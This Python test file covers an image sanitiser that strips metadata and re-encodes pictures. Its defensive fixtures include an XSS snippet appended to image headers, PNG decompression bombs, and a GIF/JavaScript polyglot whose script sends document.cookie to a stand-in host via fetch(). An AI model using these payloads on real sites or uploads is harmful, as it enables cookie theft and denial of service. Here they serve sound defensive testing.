"""A picture comes out as its pixels, and as nothing else."""

import io
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from sprachrohr.vault.media.outcome import Clean, MediaError
from sprachrohr.vault.media.pictures import clean_picture
from tests.vault import specimens
from tests.vault.specimens import PLANTED, png_chunks, png_header

FORMATS = ["JPEG", "PNG", "WEBP", "GIF", "HEIF"]
# Start, JFIF, quantization, progressive frame, Huffman tables, scans, end: no comment, no APP1, APP2 or APP13.
BARE = {0xD8, 0xE0, 0xDB, 0xC2, 0xC4, 0xDA, 0xD9}


def reason(data: bytes) -> str:
    with pytest.raises(MediaError) as raised:
        clean_picture(data)
    return raised.value.reason


def segments(jpeg: bytes) -> list[int]:
    """The markers of a JPEG in order; raises where it is none."""
    found, at = [0xD8], 2
    while found[-1] != 0xD9:
        assert jpeg[at] == 0xFF
        found.append(jpeg[at + 1])
        at += 2
        if found[-1] == 0xD9:
            break
        at += int.from_bytes(jpeg[at : at + 2], "big")
        if found[-1] == 0xDA:
            while jpeg[at] != 0xFF or jpeg[at + 1] in {0, *range(0xD0, 0xD8)}:
                at += 1
    assert at == len(jpeg), "something stands behind the end"
    return found


def seen(clean: Clean) -> Image.Image:
    image = Image.open(io.BytesIO(clean.content))
    image.load()
    assert image.size == (clean.width, clean.height)
    return image


def corners(image: Image.Image) -> list[str]:
    names = {(1, 0, 0): "red", (0, 1, 0): "green", (0, 0, 1): "blue", (1, 1, 1): "white"}
    width, height = image.size
    places = [(9, 9), (width - 9, 9), (9, height - 9), (width - 9, height - 9)]
    points = [image.getpixel(place) for place in places]
    return [names.get(tuple(round(value / 255) for value in point), "?") for point in points]  # type: ignore[arg-type,union-attr]


@pytest.mark.parametrize("name", FORMATS)
def test_nothing_planted_survives(name: str) -> None:
    data = specimens.picture(name)
    words = [PLANTED.encode(), PLANTED.encode("utf-16-le"), PLANTED.encode("utf-16-be")]
    assert any(word in data for word in words), "nothing was planted"
    clean = clean_picture(data)
    assert [word for word in words if word in clean.content] == []
    assert set(segments(clean.content)) == BARE
    image = seen(clean)
    assert (dict(image.getexif()), sorted(set(image.info) - {"progression", "progressive"})) == (
        {},
        ["jfif", "jfif_density", "jfif_unit", "jfif_version"],
    )
    assert corners(image) == ["red", "green", "blue", "white"]
    assert (clean.content_type, clean.width, clean.height) == ("image/jpeg", 480, 320)


@pytest.mark.parametrize("name", ["JPEG", "PNG", "WEBP", "HEIF"])
@pytest.mark.parametrize("orientation", range(1, 9))
def test_it_stands_upright(name: str, orientation: int) -> None:
    undo = {
        2: Image.Transpose.FLIP_LEFT_RIGHT,
        3: Image.Transpose.ROTATE_180,
        4: Image.Transpose.FLIP_TOP_BOTTOM,
        5: Image.Transpose.TRANSPOSE,
        6: Image.Transpose.ROTATE_90,
        7: Image.Transpose.TRANSVERSE,
        8: Image.Transpose.ROTATE_270,
    }
    stored = specimens.scene(120, 80)
    if orientation in undo:
        stored = stored.transpose(undo[orientation])
    clean = clean_picture(specimens.picture(name, stored, orientation))
    assert (clean.width, clean.height) == (120, 80)
    assert corners(seen(clean)) == ["red", "green", "blue", "white"]


@pytest.mark.parametrize(
    ("size", "expected"),
    [((4000, 3000), (1600, 1200)), ((3000, 4000), (1200, 1600)), ((1601, 1), (1600, 1)), ((1600, 900), (1600, 900))],
)
def test_the_long_side_has_at_most_1600_pixels(size: tuple[int, int], expected: tuple[int, int]) -> None:
    clean = clean_picture(specimens.picture("JPEG", Image.new("RGB", size, "white")))
    assert (clean.width, clean.height) == expected


def test_the_same_bytes_give_the_same_picture() -> None:
    data = specimens.picture("HEIF")
    assert clean_picture(data) == clean_picture(data)


@pytest.mark.parametrize("name", ["PNG", "WEBP", "GIF"])
def test_what_is_transparent_becomes_white(name: str) -> None:
    image = Image.new("RGBA", (64, 64), (0, 0, 0, 0))
    image.paste(Image.new("RGBA", (32, 64), (0, 0, 0, 255)), (0, 0))
    clean = seen(clean_picture(specimens.picture(name, image)))
    assert [clean.getpixel((8, 32)), clean.getpixel((56, 32))] == [(0, 0, 0), (255, 255, 255)]


@pytest.mark.parametrize(
    ("mode", "colour", "expected"),
    [
        ("1", 1, 255),
        ("L", 100, 100),
        ("LA", (100, 255), 100),
        ("P", 0, 0),
        ("I;16", 25700, 100),
    ],
)
def test_every_kind_of_png_keeps_its_grey(mode: str, colour: int | tuple[int, ...], expected: int) -> None:
    clean = seen(clean_picture(specimens.picture("PNG", Image.new(mode, (16, 16), colour))))
    assert clean.getpixel((8, 8)) == (expected, expected, expected)


def test_colours_are_what_the_profile_means() -> None:
    swapped = specimens.profile().replace(b"rXYZ", b"?XYZ").replace(b"bXYZ", b"rXYZ").replace(b"?XYZ", b"bXYZ")
    for name in ["JPEG", "PNG", "WEBP"]:
        file = io.BytesIO()
        specimens.scene().save(file, name, icc_profile=swapped)
        assert corners(seen(clean_picture(file.getvalue()))) == ["blue", "green", "red", "white"]


@pytest.mark.parametrize("damaged", [b"no profile", bytes(128), specimens.profile()[:200]])
def test_a_damaged_profile_does_not_cost_the_picture(damaged: bytes) -> None:
    file = io.BytesIO()
    specimens.scene().save(file, "JPEG", icc_profile=damaged)
    assert corners(seen(clean_picture(file.getvalue()))) == ["red", "green", "blue", "white"]


def test_a_print_shops_jpeg_is_readable() -> None:
    clean = clean_picture(specimens.picture("JPEG", specimens.scene(mode="CMYK")))
    assert seen(clean).mode == "RGB"


@pytest.mark.parametrize("name", ["GIF", "PNG", "WEBP"])
def test_a_moving_picture_is_refused_and_not_cut_to_one(name: str) -> None:
    file = io.BytesIO()
    specimens.scene().save(file, name, save_all=True, append_images=[Image.new("RGB", (480, 320))], duration=100)
    assert reason(file.getvalue()) == "animated"


def test_two_pictures_in_one_jpeg_give_the_first() -> None:
    file = io.BytesIO()
    specimens.scene().save(file, "MPO", save_all=True, append_images=[Image.new("RGB", (480, 320))])
    assert corners(seen(clean_picture(file.getvalue()))) == ["red", "green", "blue", "white"]


@pytest.mark.parametrize("name", FORMATS)
def test_a_picture_cut_at_any_kilobyte_is_broken(name: str) -> None:
    data = specimens.picture(name, specimens.scene(900, 700))
    end = data.rfind(b"\xff\xd9") if name == "JPEG" else len(data)
    cuts = range(1024, end - 1024, 1024)
    assert {reason(data[:cut]) for cut in cuts} == {"broken"}


@pytest.mark.parametrize("head", [specimens.picture(name)[:40] for name in FORMATS])
def test_a_page_behind_the_beginning_of_a_picture_is_broken(head: bytes) -> None:
    assert reason(head + b"<html><script>alert(1)</script></html>" * 50) == "broken"


def test_a_picture_that_is_also_a_script_loses_the_script() -> None:
    """A GIF whose size reads as the beginning of a comment in JavaScript, with the script behind its end."""
    script = b"*/=1;fetch('//example.org/'+document.cookie)//"
    data = bytearray(specimens.picture("GIF", Image.new("P", (0x2A2F, 16))))
    assert data[6:8] == b"/*"
    assert script not in clean_picture(bytes(data) + script).content


def test_bombs_are_refused_by_their_header() -> None:
    rows = zlib.compress(bytes(20000 * 2501), 9)
    assert reason(png_chunks(png_header(30000, 30000), (b"IDAT", b""))) == "too_many_pixels"
    assert reason(png_chunks(png_header(20000, 20000, 1, 0), (b"IDAT", rows), (b"IEND", b""))) == "too_many_pixels"
    assert reason(png_chunks(png_header(2**31 - 1, 2**31 - 1), (b"IDAT", b""))) == "too_many_pixels"


@pytest.mark.parametrize(
    ("name", "begin"), [(b"zTXt", b"Comment\0\0"), (b"iCCP", b"name\0\0"), (b"iTXt", b"a\0\1\0\0\0")]
)
def test_a_bomb_in_a_comment_does_not_go_off(name: bytes, begin: bytes) -> None:
    bomb = begin + zlib.compress(bytes(32 * 1024 * 1024), 9)
    pixels = zlib.compress(bytes(4 * (1 + 3 * 4)))
    data = png_chunks(png_header(4, 4), (name, bomb), (b"IDAT", pixels), (b"IEND", b""))
    try:
        assert len(clean_picture(data).content) < 2000
    except MediaError as error:
        assert error.reason == "broken"  # noqa: PT017 (either way is safe)


@settings(max_examples=80, deadline=None, derandomize=True)
@given(st.data())
def test_damaged_pictures_are_broken_or_clean(data: st.DataObject) -> None:
    whole = bytearray(data.draw(st.sampled_from(SMALL)))
    for _ in range(data.draw(st.integers(1, 5))):
        whole[data.draw(st.integers(12, len(whole) - 1))] = data.draw(st.integers(0, 255))
    try:
        clean = clean_picture(bytes(whole))
    except MediaError:
        return
    assert set(segments(clean.content)) == BARE


SMALL = [specimens.picture(name, specimens.scene(64, 48)) for name in FORMATS]
